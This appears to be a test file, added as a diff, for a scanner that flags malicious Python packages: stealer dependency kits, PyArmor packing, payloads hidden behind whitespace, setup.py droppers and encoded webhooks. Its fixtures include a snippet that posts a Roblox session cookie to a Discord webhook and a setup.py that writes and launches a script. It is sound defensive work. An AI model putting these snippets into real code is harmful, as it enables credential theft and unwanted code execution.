@@ -1,0 +1,63 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { pythonVerdict as verdict } from '../../helpers/python.js';
+import { metadataRequirements, requirementName } from '../../../src/analysis/python/package.js';
+import { stealerKit } from '../../../src/rules/python/packer.js';
+
+/** Code that cannot be read, or is kept out of sight, judged by what it gives away around it. */
+
+const ARMORED = "from .pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')\n";
+
+test('requirement names are read from requires.txt, Requires-Dist and pyproject, normalized', () => {
+  assert.equal(requirementName('Discord_Webhook>=1.0; python_version > "3"'), 'discord-webhook');
+  assert.equal(requirementName('  # comment'), undefined);
+  assert.deepEqual(metadataRequirements('p.egg-info/requires.txt', 'requests\nMSS==9\n\n[dev]\npytest\n'), ['requests', 'mss']);
+  assert.deepEqual(metadataRequirements('p-1.dist-info/METADATA', 'Name: p\nRequires-Dist: dhooks (>=1)\nRequires-Dist: pytest ; extra == "test"\n'), ['dhooks']);
+  assert.deepEqual(metadataRequirements('p/pyproject.toml', '[project]\nname = "p"\ndependencies = ["pynput>=1", "psutil"]\n'), ['pynput', 'psutil']);
+  assert.deepEqual(metadataRequirements('p/pyproject.toml', '[project\nbroken'), []);
+});
+
+test('a stealer kit needs a webhook client and two collectors', () => {
+  assert.deepEqual(stealerKit(['dhooks', 'mss', 'pycryptodome', 'requests']), ['dhooks', 'mss', 'pycryptodome']);
+  assert.equal(stealerKit(['dhooks', 'requests']), undefined);
+  assert.equal(stealerKit(['mss', 'psutil', 'pycryptodome']), undefined);
+});
+
+test('PyArmor alone is not malicious; PyArmor with a stealer kit declared is', async () => {
+  assert.doesNotMatch(await verdict({ 'p-1/p/__init__.py': ARMORED, 'p-1/p.egg-info/requires.txt': 'requests\npsutil\ncryptography\n' }), /^malicious/);
+  assert.match(await verdict({ 'p-1/p/__init__.py': ARMORED, 'p-1/p.egg-info/requires.txt': 'requests\ndhooks\nmss\npycryptodome\n' }), /^malicious: Hides its code with a packer .*stealer's toolkit \(dhooks, mss, pycryptodome\)/);
+  // the same kit declared only in setup.py, and in a wheel's METADATA
+  const setup = "from setuptools import setup\nsetup(name='p', install_requires=['dhooks', 'pynput', 'pyperclip'])\n";
+  assert.match(await verdict({ 'p-1/setup.py': setup, 'p-1/p/__init__.py': ARMORED }), /^malicious/);
+  assert.match(await verdict({ 'p/__init__.py': ARMORED, 'p-1.dist-info/METADATA': 'Name: p\nRequires-Dist: discord-webhook\nRequires-Dist: mss\nRequires-Dist: browser-cookie3\n' }), /^malicious/);
+  // a stealer kit with readable code is judged by the code
+  assert.match(await verdict({ 'p-1/p/__init__.py': 'def hello():\n    return 1\n', 'p-1/p.egg-info/requires.txt': 'dhooks\nmss\npycryptodome\n' }), /^clean/);
+});
+
+test('a compressed blob hidden behind whitespace is malicious even under __main__; aligned code is not', async () => {
+  const hidden = `import zlib\nclass Loader:\n    def _unpack(self, key, blob):\n        return zlib.decompress(blob)\nif __name__ == '__main__':\n    x = 1${' '.repeat(400)};Loader()._unpack(key='LLIJ', blob=b'x\\x9c\\xcb\\x48\\xcd\\xc9\\xc9\\x07\\x00')\n`;
+  assert.match(await verdict({ 'p/main.py': hidden }), /^malicious: Hides a compressed or encoded payload/);
+  const aligned = `TABLE = {\n    'a': 1,${' '.repeat(160)}# first\n}\nprint(TABLE)\n`;
+  assert.match(await verdict({ 'p/t.py': aligned }), /^clean/);
+});
+
+test('setup.py that writes a script into the profile and opens it is a dropper; a build script it runs is not', async () => {
+  const dropper = "import os\nfrom setuptools import setup\np = os.getenv('APPDATA') + '/x/run.cmd'\nwith open(p, 'w') as f:\n    f.write('start stage.py')\nos.startfile(p)\nsetup(name='p')\n";
+  assert.match(await verdict({ 'p-1/setup.py': dropper }), /^malicious: Runs a program it has just written \(run\.cmd\)/);
+  const build = "import os, subprocess\nfrom setuptools import setup\nwith open('build.cmd', 'w') as f:\n    f.write('nmake /f makefile.vc')\nsubprocess.check_call(['build.cmd'])\nsetup(name='p')\n";
+  assert.doesNotMatch(await verdict({ 'p-1/setup.py': build }), /^malicious/);
+});
+
+test('a messenger webhook kept in encoded form is malicious; a plain one in a function is not', async () => {
+  const hidden = "import base64, requests\ndef report(msg):\n    u = base64.b64decode('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTIzNDU2Nzg5L2FiYw==').decode()\n    requests.post(u, json={'content': msg})\n";
+  assert.match(await verdict({ 'p/notify.py': hidden }), /^malicious: Embeds a hidden messenger webhook/);
+  const plain = "import requests\ndef report(msg):\n    requests.post('https://discord.com/api/webhooks/123456789/abc', json={'content': msg})\n";
+  assert.doesNotMatch(await verdict({ 'p/notify.py': plain }), /^malicious/);
+});
+
+test('a Roblox session cookie sent to a webhook is a stealer', async () => {
+  const grab = "import requests\ndef grab(cookies):\n    c = cookies['.ROBLOSECURITY']\n    requests.post('https://discord.com/api/webhooks/123456789/abc', json={'content': c})\n";
+  assert.match(await verdict({ 'p/g.py': grab }), /^malicious: Reads session data \(\.ROBLOSECURITY\)/);
+  const client = "import requests\nclass Client:\n    def __init__(self, cookie):\n        self.s = requests.Session()\n        self.s.cookies['.ROBLOSECURITY'] = cookie\n";
+  assert.match(await verdict({ 'p/client.py': client }), /^clean/);
+});
